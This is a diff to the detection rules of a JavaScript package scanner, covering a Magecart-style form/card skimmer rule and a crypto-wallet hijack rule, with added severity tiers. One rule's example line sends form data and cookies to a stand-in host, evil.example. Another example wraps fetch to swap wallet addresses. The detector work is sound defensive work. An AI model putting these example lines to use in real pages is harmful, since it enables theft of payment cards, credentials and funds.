@@ -20,14 +20,20 @@ type FormSkimmer struct{}
 // Meta implements analyze.Rule.
 func (FormSkimmer) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/form-skimmer", Version: 1, Title: "Skims form fields and cookies",
-		Help: "Code reads every form's fields (document.forms, input values) together with document.cookie and sends them to a hard-coded external " +
-			"URL (fetch, XHR, an Image or a prefetch link). This is a Magecart-style card and password skimmer.",
+		ID: "browser/form-skimmer", Version: 3, Title: "Skims form fields and cookies",
+		Help: "Code picks payment card fields out of the page's forms (cc-number, cvv, input[name*=card]…) on submit, or reads every form's " +
+			"fields (document.forms) together with document.cookie, and sends them to a hard-coded external URL (fetch, XHR, sendBeacon, an " +
+			"Image or a prefetch link). This is a Magecart-style card skimmer: critical with card fields; medium for forms and cookies " +
+			"alone, which form-analytics and session-replay SDKs also read.",
 		Remediation:     "Remove the package from any site build immediately.",
 		Example:         `document.forms[0].addEventListener("submit", () => { new Image().src = "https://evil.example/c?d=" + btoa(data + document.cookie) })`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigCred, Needs: analyze.NeedCode,
 	}
 }
+
+// cardField matches the names and autocomplete tokens of payment card
+// inputs.
+var cardField = regexp.MustCompile(`(?i)\bcc-(number|csc|exp)\b|card[-_]?(number|num|no)\b|name\*?=["']?card|\bcvv2?\b|\bcvc\b|\bcsc\b`)
 
 // Check implements analyze.Rule.
 func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
@@ -42,7 +48,29 @@ func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 				cookie = true
 			}
 		}
-		if forms == 0 || !cookie {
+		// payment card fields picked out of the page, on submit
+		var card *jsast.Str
+		submit := false
+		for i := range f.Facts.Strings {
+			s := &f.Facts.Strings[i]
+			if s.Value == "submit" {
+				submit = true
+			}
+			if card == nil && len(s.Value) < 512 && cardField.MatchString(s.Value) {
+				card = s
+			}
+		}
+		sev := finding.SeverityCritical
+		what := "reads form fields and cookies"
+		switch {
+		case card != nil && (forms != 0 || submit):
+			what, line = "reads payment card fields ("+cardField.FindString(card.Value)+")", card.Pos.Line
+		case forms != 0 && cookie:
+			// form analytics and session replay read their own cookie and
+			// describe the fields; a skimmer goes for the card. High
+			// would make any such SDK malicious with its own request.
+			sev = finding.SeverityMedium
+		default:
 			continue
 		}
 		dest := ""
@@ -62,7 +90,14 @@ func (FormSkimmer) Check(ctx context.Context, t *analyze.Target, r analyze.Repor
 		if dest == "" || !send {
 			continue
 		}
-		r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh, Message: "reads form fields and cookies and sends them to " + dest})
+		if card != nil && forms == 0 && f.Facts.Size > 512<<10 {
+			// in a bundle, a list of autocomplete tokens ("cc-number" in a
+			// compiler's a11y checks), a "submit" somewhere and a request
+			// elsewhere are not a skimmer; call positions are too coarse
+			// there to tell them apart
+			continue
+		}
+		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh, Message: what + " and sends them to " + dest})
 	}
 	return nil
 }
@@ -73,12 +108,14 @@ type WalletHijack struct{}
 // Meta implements analyze.Rule.
 func (WalletHijack) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/wallet-hijack", Version: 3, Title: "Hijacks crypto wallet traffic",
-		Help: "Code replaces fetch, XMLHttpRequest or window.ethereum methods, or rewrites the clipboard, and contains several crypto-address " +
+		ID: "browser/wallet-hijack", Version: 4, Title: "Hijacks crypto wallet traffic",
+		Help: "Code sets a wallet transaction's recipient to a constant address (tx.to = \"0x…\" where it handles eth_sendTransaction), or " +
+			"replaces fetch, XMLHttpRequest or window.ethereum (an assignment or Object.defineProperty), or rewrites the clipboard, and contains several crypto-address " +
 			"patterns (Bitcoin, Ethereum, Solana, Tron...), or one pattern plus a hard-coded wallet address to put in its place (in a " +
 			"Node program, writing the clipboard means running pbcopy, clip, wl-copy, xclip, xsel or Set-Clipboard; in a " +
 			"bundle, the address must sit next to the hook). Together this swaps payment addresses for the attacker's (the 2025 chalk/debug " +
-			"compromise; clipboard clippers).",
+			"compromise; clipboard clippers). A fetch or XMLHttpRequest wrapper alone (wallet SDKs time their requests) with fewer than two " +
+			"literal addresses to swap in is medium.",
 		Remediation:     "Remove the package and check recent transactions made from affected pages.",
 		Example:         `window.fetch = async (...a) => swapAddresses(await orig(...a)) // with /0x[a-fA-F0-9]{40}/ ...`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigWallet, Needs: analyze.NeedCode,
@@ -132,10 +169,14 @@ func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 		hook := ""
 		line := 0
 		var hooks []jsast.Pos
+		netOnly := true // the only hooks are on fetch/XHR (instrumentation does that too)
 		for _, a := range f.Facts.Assigns {
 			switch {
-			case a.Target == "fetch", strings.HasPrefix(a.Target, "XMLHttpRequest.prototype."), strings.Contains(a.Target, "ethereum"), strings.HasSuffix(a.Target, ".request") && strings.Contains(a.Target, "ethereum"):
+			case a.Target == "fetch", strings.HasPrefix(a.Target, "XMLHttpRequest.prototype."):
 				hook, line = a.Target, a.Pos.Line
+				hooks = append(hooks, a.Pos)
+			case strings.Contains(a.Target, "ethereum"):
+				hook, line, netOnly = a.Target, a.Pos.Line, false
 				hooks = append(hooks, a.Pos)
 			}
 		}
@@ -143,13 +184,25 @@ func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 			switch {
 			case c.Callee == "navigator.clipboard.writeText", c.Callee == "clipboardy.write", c.Callee == "clipboardy.writeSync",
 				strings.HasSuffix(c.Callee, ".clipboard.writeText"), strings.HasSuffix(c.Callee, "clipboard.writeText"):
-				hook, line = "the clipboard", c.Pos.Line
+				hook, line, netOnly = "the clipboard", c.Pos.Line, false
 				hooks = append(hooks, c.Pos)
 			case rulekit.IsSpawn(c) && clipboardWrite(rulekit.SpawnCommand(c)):
 				// a clipper in Node writes through the system's tool
-				hook, line = "the clipboard", c.Pos.Line
+				hook, line, netOnly = "the clipboard", c.Pos.Line, false
+				hooks = append(hooks, c.Pos)
+			case c.Callee == "Object.defineProperty" && len(c.Args) > 1 && c.Args[1].Known && c.Args[1].Value == "ethereum":
+				// Object.defineProperty(window, "ethereum", {get() { return hooked }})
+				hook, line, netOnly = "window.ethereum", c.Pos.Line, false
 				hooks = append(hooks, c.Pos)
 			}
+		}
+		// the act itself: a transaction's recipient set to a constant
+		// address, in code that handles eth_sendTransaction
+		if a := rewritten(f.Facts); a != nil {
+			r.Report(analyze.Instance{File: f.Name, Line: a.Pos.Line, Confidence: finding.ConfidenceHigh,
+				Message:  fmt.Sprintf("rewrites the recipient of wallet transactions to %s", a.Value),
+				Evidence: rulekit.Ev(a.Snippet.String(), a.Value, "")})
+			continue
 		}
 		if hook == "" {
 			continue
@@ -163,21 +216,54 @@ func (WalletHijack) Check(ctx context.Context, t *analyze.Target, r analyze.Repo
 				}
 			}
 		}
-		if kinds >= 2 {
-			r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh, Message: fmt.Sprintf("replaces %s and matches %d kinds of wallet addresses", hook, kinds)})
+		// the attacker's addresses to swap in (in a bundle, by the hook)
+		var addrs []*jsast.Str
+		for i := range f.Facts.Strings {
+			s := &f.Facts.Strings[i]
+			if walletAddr.MatchString(s.Value) && (f.Facts.Size <= 512<<10 || rulekit.Near(s.Pos, hooks)) &&
+				!slices.ContainsFunc(addrs, func(a *jsast.Str) bool { return a.Value == s.Value }) {
+				addrs = append(addrs, s)
+			}
+		}
+		if kinds == 0 || kinds == 1 && len(addrs) == 0 {
 			continue
 		}
-		if kinds == 1 {
-			// one address pattern and the attacker's address to swap in
-			// (in a bundle, next to the hook)
-			for _, s := range f.Facts.Strings {
-				if walletAddr.MatchString(s.Value) && (f.Facts.Size <= 512<<10 || rulekit.Near(s.Pos, hooks)) {
-					r.Report(analyze.Instance{File: f.Name, Line: line, Confidence: finding.ConfidenceHigh,
-						Message:  fmt.Sprintf("replaces %s, matches wallet addresses and carries the address %s", hook, s.Value),
-						Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
-					break
-				}
-			}
+		sev := finding.SeverityCritical
+		if netOnly && len(addrs) < 2 {
+			// fetch wrapped for timing next to address validators and a
+			// well-known contract address: a wallet SDK may do that; a
+			// drainer carries the addresses it swaps in. (High would make
+			// the SDK malicious with any request it makes.)
+			sev = finding.SeverityMedium
+		}
+		if kinds >= 2 {
+			r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh, Message: fmt.Sprintf("replaces %s and matches %d kinds of wallet addresses", hook, kinds)})
+			continue
+		}
+		r.Report(analyze.Instance{File: f.Name, Line: line, Severity: sev, Confidence: finding.ConfidenceHigh,
+			Message:  fmt.Sprintf("replaces %s, matches wallet addresses and carries the address %s", hook, addrs[0].Value),
+			Evidence: rulekit.Ev(addrs[0].Snippet.String(), addrs[0].Value, "")})
+	}
+	return nil
+}
+
+// rewritten returns an assignment of a constant wallet address to a
+// transaction's recipient (tx.to = "0x…", params[0].to = DEST) in a file
+// that handles eth_sendTransaction or eth_signTransaction; nil if none.
+func rewritten(f *jsast.Facts) *jsast.Assign {
+	var a *jsast.Assign
+	for i := range f.Assigns {
+		if x := &f.Assigns[i]; strings.HasSuffix(x.Target, ".to") && walletAddr.MatchString(x.Value) {
+			a = x
+			break
+		}
+	}
+	if a == nil {
+		return nil
+	}
+	for _, s := range f.Strings {
+		if s.Value == "eth_sendTransaction" || s.Value == "eth_signTransaction" {
+			return a
 		}
 	}
 	return nil
